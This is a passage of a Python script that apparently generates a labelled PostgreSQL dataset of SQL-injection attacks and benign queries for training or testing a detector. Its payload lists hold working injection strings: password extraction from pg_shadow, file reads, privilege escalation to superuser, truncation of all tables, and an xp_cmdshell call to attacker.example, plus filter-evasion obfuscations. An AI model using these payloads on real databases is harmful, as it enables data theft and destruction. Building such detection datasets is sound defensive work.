        ("server_addr", "AND inet_server_addr() IS NOT NULL"),
        ("copy_to_file", "; COPY users TO '/tmp/users.csv'"),
        ("read_file_offset", "AND length(pg_read_file('/etc/hostname', 0, 100)) > 0"),
    ],
    "plpgsql_do": [
        ("do_perform_sleep", "; DO $$ BEGIN PERFORM pg_sleep(5); END $$"),
        ("do_lang_exec", "; DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $x$"),
        ("do_raise", "; DO $$ BEGIN RAISE EXCEPTION '%', (SELECT passwd FROM pg_shadow LIMIT 1); END $$"),
        ("do_format_exec", "; DO $d$ BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', current_user); END $d$"),
        ("create_fn_sql", "; CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS 'SELECT $1'"),
        ("do_loop", "; DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'TRUNCATE ' || r.tablename; END LOOP; END $$"),
    ],
    "comment_truncation": [
        ("bare", ""),
    ],
    "subquery_concat": [
        ("concat_user", "||current_user||"),
        ("concat_select_pw", "||(SELECT passwd FROM pg_shadow LIMIT 1)||"),
        ("concat_sleep", "||(SELECT pg_sleep(4))::text||"),
        ("concat_version", "||version()||"),
        ("concat_agg", "||(SELECT string_agg(usename, ',') FROM pg_user)||"),
        ("concat_setting", "||current_setting('listen_addresses')||"),
    ],
    "foreign_dialect": [
        ("mysql_sleep", "AND SLEEP(5)"),
        ("mysql_benchmark", "AND BENCHMARK(5000000,MD5(0x41))"),
        ("mysql_extractvalue", "AND EXTRACTVALUE(8112,CONCAT(0x5c,0x71706a7a71,(SELECT (ELT(8112=8112,1))),0x71766b7871))"),
        ("mysql_updatexml", "AND UPDATEXML(1,CONCAT(0x2e,(SELECT user())),1)"),
        ("mysql_if", "AND IF(1=1,SLEEP(3),0)"),
        ("mssql_waitfor", "; WAITFOR DELAY '0:0:5'"),
        ("mssql_convert", "AND 1=CONVERT(int,@@version)"),
        ("mssql_xp_cmdshell", "; EXEC xp_cmdshell 'ping attacker.example'"),
        ("oracle_pipe", "AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)"),
        ("oracle_utl", "AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))"),
        ("sqlite_randomblob", "AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))"),
        ("mysql_rlike", "RLIKE (SELECT (CASE WHEN (4=4) THEN 0x61 ELSE 0x28 END))"),
    ],
}

# Cores the obfuscation families draw from (technique, id, text).
OBF_BASE = ["boolean_blind", "tautology", "time_based", "union_based", "stacked", "error_based"]

COMMENT_TAILS = ["--", "-- ", "-- -", "--+", "-- x", "/*", ";--", "; -- ", "#"]


def balance_tail(closer, stacked):
    """A suffix that reopens what `closer` closed, so the template's own text closes it."""
    parens = closer.count(")")
    quote = closer.endswith("'") or closer.endswith("')") or closer.endswith("'))")
    if closer.startswith("$body$"):
        return (" AND $body$q$body$=$body$q" if not stacked else "; SELECT $body$q")
    if closer == '"':
        return ' AND "q"="q' if not stacked else '; SELECT "q'
    opener = "(" * parens
    if closer.startswith("%'"):
        inner = "'%'='" if not stacked else "'"
    elif quote:
        inner = "'q'='q" if not stacked else "'q"
    else:
        inner = "7=7" if not stacked else "1"
    if not stacked and not quote and parens == 0:
        return ""
    return (" AND " if not stacked else "; SELECT ") + opener + inner


def prefix_value(ctx, rng):
    if ctx in ("num",):
        return rng.choice(["1", str(rng.randint(2, 99999)), "-%d" % rng.randint(1, 9999), ""])
    if ctx in ("raw_col",):
        return rng.choice(["id", "price", "sku", "1"])
    if ctx == "raw_dir":
        return rng.choice(["ASC", "DESC", ""])
    return rng.choice(["x", "admin", "test", "1", "", "%d" % rng.randint(1, 9999), "zz"])


WRONG_CLOSERS = ["'", "')", "'))", ")", '"', "", "%'", "'\"", "`"]


def make_attack_input(ctx, closer, core, technique, rng):
    """Boundary + core; returns (input, boundary description)."""
    stacked = core.startswith(";")
    if rng.random() < 0.8:
        close = closer
    else:
        close = rng.choice([c for c in WRONG_CLOSERS if c != closer])
    pre = prefix_value(ctx, rng)
    if technique == "subquery_concat":
        # concatenation only makes sense from inside a string
        return pre + "'" + core + "'", "close=' concat"
    if technique == "comment_truncation":
        tail = rng.choice(["--", "-- ", "-- -", "--+", "/*", ";--", "-- trailing"])
        return pre + close + tail, "close=%s tail=%s" % (close, tail.strip() or "sp")
    sep = "" if stacked else " "
    body = close + sep + core
    r = rng.random()
    if r < 0.55:
        tail = rng.choice(COMMENT_TAILS)
        desc = "tail=comment"
        body = body + ("" if tail.startswith(";") else " ") + tail
    else:
        tail = balance_tail(close, stacked)
        desc = "tail=balance"
        body = body + tail
    return pre + body, "close=%s %s" % (close or "none", desc)


# ---------------------------------------------------------------------------
# Obfuscations of a core (token-level, string literals untouched unless the
# obfuscation is about literals).
# ---------------------------------------------------------------------------

def _rebuild(core, fn):
    out = []
    for k, a, b in lex(core):
        out.append(fn(k, core[a:b]))
    return "".join(out)


def obf_case(core, rng):
    def f(k, w):
        if k == "ident":
            return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in w)
        return w
    return _rebuild(core, f)


def obf_inline_comment(core, rng):
    def f(k, w):
        if k == "ws":
            return rng.choice(["/**/", "/*x*/", "/*%d*/" % rng.randint(0, 999), " /**/ ", "/*!*/"])
        return w
    return _rebuild(core, f)


def obf_whitespace(core, rng):
    def f(k, w):
        if k == "ws":
            return rng.choice(["\t", "\n", "\r\n", "\f", "  ", "\t\n", "\n\t "])
        return w
    return _rebuild(core, f)


def obf_nospace(core, rng):
    toks = [(k, core[a:b]) for k, a, b in lex(core) if k != "ws"]
    out = []
    for i, (k, w) in enumerate(toks):
        if i and toks[i - 1][0] in ("ident", "num") and k in ("ident", "num"):
            out.append(rng.choice(["/**/", "\t", "\n"]) if k == "num" or toks[i - 1][0] == "num" else "/**/")
        out.append(w)
    return "".join(out)


def _strings(core, rng, conv):
    def f(k, w):
        if k == "str" and w.startswith("'") and w.endswith("'") and len(w) >= 2:
            return conv(w[1:-1].replace("''", "'"), rng)
        return w
    return _rebuild(core, f)


def obf_chr(core, rng):
    return _strings(core, rng, lambda s, r: "(" + "||".join("chr(%d)" % ord(c) for c in s) + ")" if s else "''")


def obf_dollar(core, rng):
    def conv(s, r):
        tag = r.choice(["", "q", "x1", "_"])
        return "$%s$%s$%s$" % (tag, s, tag)
    return _strings(core, rng, conv)


def obf_e_escape(core, rng):
    def conv(s, r):
        parts = []
        for c in s:
            v = r.random()
            if v < 0.4 and ord(c) < 128:
                parts.append("\\x%02x" % ord(c))
            elif v < 0.7 and ord(c) < 128:
                parts.append("\\%03o" % ord(c))
            elif c == "'":
                parts.append("\\'")
            else:
                parts.append(c)
        return "E'" + "".join(parts) + "'"
    return _strings(core, rng, conv)


def obf_unicode(core, rng):
    return _strings(core, rng, lambda s, r: "U&'" + "".join("\\%04x" % ord(c) for c in s) + "'")


OBFUSCATIONS = {
    "obf_case_mix": obf_case,
    "obf_inline_comment": obf_inline_comment,
    "obf_whitespace": obf_whitespace,
    "obf_nospace": obf_nospace,
    "obf_chr_concat": obf_chr,
    "obf_dollar_quote": obf_dollar,
    "obf_e_escape": obf_e_escape,
    "obf_unicode_escape": obf_unicode,
}

# Literal-obfuscations need a core with a string literal.
LITERAL_OBF = {"obf_chr_concat", "obf_dollar_quote", "obf_e_escape", "obf_unicode_escape"}

# ---------------------------------------------------------------------------
# Complex benign statements
# ---------------------------------------------------------------------------


def complex_statements(rng):
    """(family, template, sql) tuples: realistic statements applications run."""
    out = []

    def add(fam, tpl, sql):
        out.append((fam, tpl, sql))

    names = ["O''Brien", "Zoë", "plain", "Union Station", "drop zone", "a--b", "x/*y*/z", "50% off", "$$cash$$"]
    for _ in range(12):
        n = rng.randint(1, 99999)
        s = rng.choice(names)
        add("complex_orm_generated", "h_sqlalchemy_select",
            "SELECT users.id AS users_id, users.name AS users_name, users.email AS users_email \nFROM users \nWHERE users.name = '%s' AND users.tenant_id = %d \n LIMIT %d OFFSET %d" % (s, n % 50, rng.choice([10, 20, 50]), rng.randint(0, 500)))
        add("complex_orm_generated", "h_hibernate_select",
            "select o1_0.id,o1_0.customer_id,o1_0.status,o1_0.total from orders o1_0 where o1_0.customer_id=%d and o1_0.status in ('NEW','PAID') order by o1_0.id desc fetch first %d rows only" % (n, rng.choice([10, 25])))
        add("complex_orm_generated", "h_activerecord_join",
            "SELECT \"posts\".* FROM \"posts\" INNER JOIN \"taggings\" ON \"taggings\".\"post_id\" = \"posts\".\"id\" WHERE \"taggings\".\"tag_id\" IN (%d, %d, %d) AND \"posts\".\"title\" ILIKE '%%%s%%' ORDER BY \"posts\".\"created_at\" DESC LIMIT $1" % (n, n + 1, n + 7, s))
        add("complex_orm_generated", "h_django_q_or",
            "SELECT \"shop_item\".\"id\", \"shop_item\".\"name\" FROM \"shop_item\" WHERE (\"shop_item\".\"name\"::text LIKE '%%%s%%' OR \"shop_item\".\"sku\" = 'SKU-%d') AND NOT (\"shop_item\".\"archived\" = true) ORDER BY \"shop_item\".\"id\" ASC" % (s, n))
        add("complex_orm_generated", "h_sequelize_upsert",
            "INSERT INTO \"Sessions\" (\"sid\",\"expires\",\"data\",\"createdAt\",\"updatedAt\") VALUES ('s%06d','2026-01-0%d 10:00:00.000 +00:00','{\"cookie\":{\"path\":\"/\"}}','2025-12-01 10:00:00.000 +00:00','2025-12-01 10:00:00.000 +00:00') ON CONFLICT (\"sid\") DO UPDATE SET \"expires\"=EXCLUDED.\"expires\",\"data\"=EXCLUDED.\"data\",\"updatedAt\"=EXCLUDED.\"updatedAt\" RETURNING \"sid\"" % (n, rng.randint(1, 9)))
        add("complex_orm_generated", "h_gorm_soft_delete",
            "UPDATE \"products\" SET \"deleted_at\"='2025-11-0%d 12:00:00.123' WHERE \"products\".\"id\" = %d AND \"products\".\"deleted_at\" IS NULL" % (rng.randint(1, 9), n))
        add("complex_orm_generated", "h_prisma_nested",
            "SELECT \"public\".\"Post\".\"id\", \"public\".\"Post\".\"title\" FROM \"public\".\"Post\" WHERE (\"public\".\"Post\".\"authorId\" IN ($1,$2,$3) AND \"public\".\"Post\".\"published\" = $4) ORDER BY \"public\".\"Post\".\"id\" ASC OFFSET $5")
        add("complex_orm_generated", "h_ecto_exists",
            "SELECT TRUE FROM \"accounts\" AS a0 WHERE (a0.\"email\" = '%s@example.com') LIMIT 1" % rng.choice(["o''neil", "x", "first.last"]))
        add("complex_cte_window", "h_recursive_tree",
            "WITH RECURSIVE tree AS (SELECT id, parent_id, name, 1 AS depth FROM categories WHERE id = %d UNION ALL SELECT c.id, c.parent_id, c.name, t.depth + 1 FROM categories c JOIN tree t ON c.parent_id = t.id WHERE t.depth < 10) SELECT * FROM tree ORDER BY depth, name" % n)
        add("complex_cte_window", "h_percentile_report",
            "SELECT service, percentile_cont(0.95) WITHIN GROUP (ORDER BY latency_ms) AS p95, avg(latency_ms) FILTER (WHERE status >= 500) AS err_avg FROM requests WHERE ts >= now() - interval '%d minutes' GROUP BY service HAVING count(*) > %d ORDER BY p95 DESC" % (rng.randint(5, 120), rng.randint(10, 1000)))
        add("complex_cte_window", "h_cte_union_all_report",
            "WITH a AS (SELECT 'web' AS src, count(*) AS n FROM visits WHERE day = '2025-10-%02d'), b AS (SELECT 'app' AS src, count(*) AS n FROM app_opens WHERE day = '2025-10-%02d') SELECT * FROM a UNION ALL SELECT * FROM b ORDER BY n DESC" % (rng.randint(1, 28), rng.randint(1, 28)))
        add("complex_cte_window", "h_ntile_lead",
            "SELECT id, amount, ntile(4) OVER w AS quartile, lead(amount, 1, 0) OVER w AS next_amount FROM invoices WHERE issued_on >= DATE '2025-01-01' WINDOW w AS (PARTITION BY customer_id ORDER BY issued_on RANGE BETWEEN INTERVAL '30 days' PRECEDING AND CURRENT ROW)")
        add("complex_cte_window", "h_cte_delete_returning",
            "WITH moved AS (DELETE FROM queue WHERE id IN (SELECT id FROM queue WHERE run_at <= now() ORDER BY run_at LIMIT %d FOR UPDATE SKIP LOCKED) RETURNING *) INSERT INTO queue_done SELECT * FROM moved" % rng.randint(1, 100))
        add("complex_jsonb_queries", "h_jsonb_path",
            "SELECT id FROM events WHERE payload @? '$.items[*] ? (@.qty > %d)' AND payload->'meta'->>'src' = '%s' AND NOT (payload ? 'deleted')" % (rng.randint(1, 9), rng.choice(["web", "ios", "o''reilly"])))
        add("complex_jsonb_queries", "h_jsonb_set",
            "UPDATE profiles SET doc = jsonb_set(doc, '{settings,theme}', '\"%s\"', true) || '{\"v\": 2}'::jsonb WHERE id = %d" % (rng.choice(["dark", "light", "high-contrast"]), n))
        add("complex_jsonb_queries", "h_jsonb_agg",
            "SELECT o.id, jsonb_agg(jsonb_build_object('sku', i.sku, 'qty', i.qty) ORDER BY i.sku) AS items FROM orders o JOIN order_items i ON i.order_id = o.id WHERE o.id = ANY('{%d,%d}'::bigint[]) GROUP BY o.id" % (n, n + 3))
        add("complex_upsert_merge", "h_upsert_do_nothing",
            "INSERT INTO tags (name) VALUES ('%s'), ('%s') ON CONFLICT (name) DO NOTHING RETURNING id" % (rng.choice(names), rng.choice(names)))
        add("complex_upsert_merge", "h_merge_returning",
            "MERGE INTO accounts a USING staging_accounts s ON a.id = s.id WHEN MATCHED AND s.deleted THEN DELETE WHEN MATCHED THEN UPDATE SET balance = s.balance WHEN NOT MATCHED THEN INSERT (id, balance) VALUES (s.id, s.balance)")
        add("complex_upsert_merge", "h_update_from_values",
            "UPDATE products p SET price = v.price FROM (VALUES (%d, 9.99), (%d, 19.5)) AS v(id, price) WHERE p.id = v.id" % (n, n + 1))
        add("complex_upsert_merge", "h_delete_using_returning",
            "DELETE FROM cart_items ci USING carts c WHERE ci.cart_id = c.id AND c.updated_at < now() - interval '%d days' RETURNING ci.id" % rng.randint(7, 90))
    for _ in range(6):
        v = rng.randint(20240101, 20261231)
        tbl = rng.choice(["invoices", "payments", "audit_events", "user_sessions"])
        add("complex_migration_ddl", "h_flyway_migration",
            "-- V%d__add_%s_index.sql\nCREATE INDEX CONCURRENTLY IF NOT EXISTS idx_%s_created ON %s (created_at DESC) WHERE deleted_at IS NULL;\nCOMMENT ON INDEX idx_%s_created IS 'speeds up the ''recent'' dashboard -- see OPS-123';" % (v, tbl, tbl, tbl, tbl))
        add("complex_migration_ddl", "h_rails_migration",
            "ALTER TABLE \"%s\" ADD \"status\" character varying DEFAULT 'pending' NOT NULL; CREATE INDEX \"index_%s_on_status\" ON \"%s\" (\"status\"); INSERT INTO \"schema_migrations\" (\"version\") VALUES ('%d') RETURNING \"version\"" % (tbl, tbl, tbl, v))
        add("complex_migration_ddl", "h_liquibase_changelog",
            "INSERT INTO public.databasechangelog (ID, AUTHOR, FILENAME, DATEEXECUTED, ORDEREXECUTED, MD5SUM, DESCRIPTION, COMMENTS, EXECTYPE, CONTEXTS, LABELS, LIQUIBASE, DEPLOYMENT_ID) VALUES ('%d-1', 'dev', 'db/changelog.xml', NOW(), %d, '9:%032x', 'addColumn tableName=%s', '', 'EXECUTED', NULL, NULL, '4.25.0', '%d')" % (v, rng.randint(1, 400), rng.getrandbits(128), tbl, v))
        add("complex_migration_ddl", "h_partition_ddl",
            "CREATE TABLE %s_y2026m%02d PARTITION OF %s FOR VALUES FROM ('2026-%02d-01') TO ('2026-%02d-01'); ALTER TABLE %s_y2026m%02d SET (autovacuum_vacuum_scale_factor = 0.01)" % (tbl, 1, tbl, 1, 2, tbl, 1))
        add("complex_migration_ddl", "h_rls_policy",
            "ALTER TABLE %s ENABLE ROW LEVEL SECURITY; CREATE POLICY tenant_isolation ON %s USING (tenant_id = current_setting('app.current_tenant')::int)" % (tbl, tbl))
        add("complex_migration_ddl", "h_grant_role",
            "GRANT SELECT, INSERT, UPDATE ON %s TO app_rw; REVOKE DELETE ON %s FROM app_rw" % (tbl, tbl))
        add("complex_migration_ddl", "h_enum_add_value",
            "ALTER TYPE order_state ADD VALUE IF NOT EXISTS 'on_hold' AFTER 'paid'")
        add("complex_copy_stdin", "h_copy_csv_header",
            "COPY %s (id, amount, note) FROM STDIN WITH (FORMAT csv, HEADER true, DELIMITER ';', NULL '')" % tbl)
        add("complex_copy_stdin", "h_copy_binary_out",
            "COPY (SELECT * FROM %s WHERE created_at >= '2025-0%d-01') TO STDOUT WITH (FORMAT binary)" % (tbl, rng.randint(1, 9)))
        add("complex_plpgsql_body", "h_trigger_fn_audit",
            "CREATE OR REPLACE FUNCTION audit_%s() RETURNS trigger LANGUAGE plpgsql AS $fn$\nBEGIN\n  INSERT INTO audit_log(tbl, op, row_data) VALUES (TG_TABLE_NAME, TG_OP, to_jsonb(NEW)); -- who did it\n  RETURN NEW;\nEND;\n$fn$" % tbl)
        add("complex_plpgsql_body", "h_do_add_column",
            "DO $$\nBEGIN\n  IF NOT EXISTS (SELECT 1 FROM information_schema.columns WHERE table_name = '%s' AND column_name = 'archived') THEN\n    EXECUTE 'ALTER TABLE %s ADD COLUMN archived boolean DEFAULT false';\n  END IF;\nEND\n$$" % (tbl, tbl))
        add("complex_plpgsql_body", "h_sql_function_dollar",
            "CREATE FUNCTION slugify(t text) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT trim(both '-' from regexp_replace(lower(t), '[^a-z0-9]+', '-', 'g')) $$")
        add("complex_plpgsql_body", "h_procedure_call",
            "CALL refresh_rollups(p_from => DATE '2025-%02d-01', p_dry_run => false)" % rng.randint(1, 12))
    for _ in range(10):
        n = rng.randint(1, 99999)
        trace = "%032x" % rng.getrandbits(128)
        add("complex_comments_hints", "h_pg_hint_plan",
            "/*+ IndexScan(o idx_orders_customer) Leading((o c)) */ SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.id = %d" % n)
        add("complex_comments_hints", "h_sqlcommenter",
            "SELECT * FROM carts WHERE user_id = %d /*controller='cart',framework='django%%3A4.2',traceparent='00-%s-%016x-01'*/" % (n, trace, rng.getrandbits(64)))
        add("complex_comments_hints", "h_trace_line_comment",
            "-- trace-id: %s\n-- span: checkout.load\nSELECT id, status FROM orders WHERE id = %d" % (trace, n))
        add("complex_comments_hints", "h_trailing_line_comment",
            "SELECT count(*) FROM sessions WHERE expires_at > now() -- active sessions; see runbook")
        add("complex_comments_hints", "h_nested_block_comment",
            "SELECT /* outer /* inner */ still comment */ name FROM plans WHERE id = %d" % n)
        add("complex_comments_hints", "h_comment_with_sql_words",
            "/* report: union of web and app; drop rows where 1=1 is meaningless */ SELECT day, sum(n) FROM daily_counts GROUP BY day ORDER BY day DESC LIMIT %d" % rng.randint(7, 90))
        add("complex_admin_monitoring", "h_pg_stat_activity",
            "SELECT pid, usename, state, wait_event_type, now() - query_start AS dur, left(query, 200) FROM pg_stat_activity WHERE state <> 'idle' AND pid <> pg_backend_pid() ORDER BY dur DESC")
        add("complex_admin_monitoring", "h_table_sizes",
            "SELECT relname, pg_size_pretty(pg_total_relation_size(c.oid)) FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'public' AND c.relkind = 'r' ORDER BY pg_total_relation_size(c.oid) DESC LIMIT %d" % rng.randint(5, 50))
        add("complex_admin_monitoring", "h_locks",
            "SELECT l.locktype, l.relation::regclass, l.mode, l.granted, a.query FROM pg_locks l JOIN pg_stat_activity a ON a.pid = l.pid WHERE NOT l.granted")
        add("complex_admin_monitoring", "h_pool_probe",
            rng.choice(["SELECT 1", "SHOW server_version", "SELECT version()", "SHOW transaction_isolation", "SELECT current_setting('server_version_num')::int", "SET application_name = 'billing-worker-%d'" % n, "SET TIME ZONE 'UTC'", "DISCARD ALL"]))
        add("complex_admin_monitoring", "h_advisory_lock",
            "SELECT pg_try_advisory_lock(%d, hashtext('nightly-export'))" % rng.randint(1, 9))
        add("complex_admin_monitoring", "h_stat_statements",
            "SELECT queryid, calls, mean_exec_time, rows, query FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 20")
        add("complex_admin_monitoring", "h_replication_lag",
            "SELECT client_addr, state, pg_wal_lsn_diff(pg_current_wal_lsn(), replay_lsn) AS lag_bytes FROM pg_stat_replication")
        add("complex_pg_dump", "h_pg_dump_header",
            "SET statement_timeout = 0;\nSET lock_timeout = 0;\nSET client_encoding = 'UTF8';\nSET standard_conforming_strings = on;\nSELECT pg_catalog.set_config('search_path', '', false);\nSET check_function_bodies = false;\nSET row_security = off;")
        add("complex_pg_dump", "h_pg_dump_setval",
            "SELECT pg_catalog.setval('public.orders_id_seq', %d, true);" % n)
        add("complex_job_queue", "h_skip_locked",
            "UPDATE jobs SET locked_at = now(), locked_by = 'worker-%d' WHERE id = (SELECT id FROM jobs WHERE locked_at IS NULL AND queue = 'default' ORDER BY priority, run_at LIMIT 1 FOR UPDATE SKIP LOCKED) RETURNING id, args" % rng.randint(1, 32))
        add("complex_job_queue", "h_listen_notify",
            rng.choice(["LISTEN job_events", "NOTIFY job_events, '{\"id\": %d}'" % n, "SELECT pg_notify('cache_invalidate', 'users:%d')" % n, "UNLISTEN *"]))
        add("complex_fulltext", "h_websearch_rank",
            "SELECT id, ts_rank_cd(tsv, q) AS rank, ts_headline('english', body, q, 'MaxWords=20') FROM articles, websearch_to_tsquery('english', '%s') q WHERE tsv @@ q ORDER BY rank DESC LIMIT 10" % rng.choice(["\"union select\" -drop", "sleep OR benchmark", "or 1=1", "o''reilly books", "pg_sleep -waitfor"]))
        add("complex_fulltext", "h_trigram_similarity",
            "SELECT name, similarity(name, '%s') AS sim FROM cities WHERE name %% '%s' ORDER BY sim DESC LIMIT 5" % (("São Paulo",) * 2))
        add("complex_transactions", "h_tx_isolation",
            rng.choice(["BEGIN ISOLATION LEVEL SERIALIZABLE", "SAVEPOINT s%d" % n, "ROLLBACK TO SAVEPOINT s%d" % n, "COMMIT AND CHAIN", "SET LOCAL lock_timeout = '2s'", "PREPARE TRANSACTION 'tx-%d'" % n, "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY"]))
    return out


# ---------------------------------------------------------------------------


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()

    def emit(sql, label, family, template, inp, variant):
        if sql in seen:
            return False
        seen.add(sql)
        rows.append({"sql": sql, "label": label, "family": family, "template": template,
                     "input": inp, "variant": variant})
        return True

    slots = [(t, s) for t in TEMPLATES for s in t.slots]
    str_slots = [(t, s) for t, s in slots if t.slots[s][0] in ("str", "estr", "dollar", "ident")]

    def attack_rows(family, technique, count, transform=None):
        made = 0
        tries = 0
        cores = CORES[technique]
        while made < count and tries < count * 40:
            tries += 1
            vid, core = rng.choice(cores)
            if transform is not None:
                if transform in LITERAL_OBF and "'" not in core:
                    continue
                core = OBFUSCATIONS[transform](core, rng)
            pool = str_slots if technique == "subquery_concat" else slots
            t, s = rng.choice(pool)
            ctx, closer, _ = t.slots[s]
            inp, boundary = make_attack_input(ctx, closer, core, technique, rng)
            if not inp:
                continue
            sql, (a, b) = fill(t, s, inp, rng, escape_it=False)
            if not contained(sql, a, b, ctx):
                variant = "%s:%s|%s" % (technique, vid, boundary)
                if emit(sql, "attack", family, t.name, inp, variant):
                    made += 1
            elif ctx == "dollar":
                emit(sql, "benign", "escaped_attack_string", t.name, inp, "contained:%s:%s" % (technique, vid))
            # otherwise the payload stayed inside its literal: dropped
            if ctx in ("str", "estr", "ident") and rng.random() < 0.12:
                esql, (ea, eb) = fill(t, s, inp, rng, escape_it=True)
                assert contained(esql, ea, eb, ctx), esql
                emit(esql, "benign", "escaped_attack_string", t.name, inp, "escaped:%s:%s" % (technique, vid))
        return made

    plan = [
        ("boolean_blind", 160), ("tautology", 130), ("error_based", 130), ("time_based", 130),
        ("union_based", 130), ("order_by_probe", 40), ("stacked", 150), ("pg_specific_oob", 130),
        ("plpgsql_do", 50), ("comment_truncation", 70), ("subquery_concat", 60), ("foreign_dialect", 90),
    ]
    for technique, count in plan:
        attack_rows(technique, technique, count)
    for obf in OBFUSCATIONS:
        for technique in OBF_BASE:
            attack_rows(obf, technique, 10, transform=obf)

    # Benign inputs in every slot whose kind fits.
    for t in TEMPLATES:
        for s, (ctx, _, kind) in t.slots.items():
            if ctx in ("num", "raw_col", "raw_dir"):
                fam = {"num": "input_numeric", "raw_col": "input_identifier", "raw_dir": "input_identifier"}[ctx]
                for _ in range(8):
                    v = benign_value(kind, rng)
                    sql, (a, b) = fill(t, s, v, rng, escape_it=True)
                    assert contained(sql, a, b, ctx), sql
                    emit(sql, "benign", fam, t.name, v, "benign:%s" % kind)
                continue
            for fam, values in BENIGN.items():
                for v in rng.sample(values, min(2, len(values))):
                    if ctx == "dollar" and "$body$" in v:
                        continue
                    sql, (a, b) = fill(t, s, v, rng, escape_it=True)
                    assert contained(sql, a, b, ctx), sql
                    emit(sql, "benign", fam, t.name, v, "benign:%s" % fam)
            for v in ESCAPED_ATTACK_EXTRA:
                if rng.random() < 0.3 and not (ctx == "dollar" and "$" in v):
                    sql, (a, b) = fill(t, s, v, rng, escape_it=True)
                    assert contained(sql, a, b, ctx), sql
                    emit(sql, "benign", "escaped_attack_string", t.name, v, "escaped:extra")

    for fam, tpl, sql in complex_statements(rng):
        emit(sql, "benign", fam, tpl, None, "complex:" + tpl)

    rows.sort(key=lambda r: (r["label"], r["family"], r["template"], r["sql"]))
    for i, r in enumerate(rows):
        r["id"] = "gen-%05d" % i
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz:
        for r in rows:
            gz.write((json.dumps({k: r[k] for k in ("id", "sql", "label", "family", "template", "input", "variant")},
                                 ensure_ascii=False) + "\n").encode("utf-8"))
    with open(OUT, "wb") as f:
        f.write(buf.getvalue())
    counts = collections.Counter((r["label"], r["family"]) for r in rows)
    for (label, fam), n in sorted(counts.items()):
        print("%-7s %-26s %5d" % (label, fam, n))
    print("total", len(rows), "attack", sum(r["label"] == "attack" for r in rows))


if __name__ == "__main__":
    main()
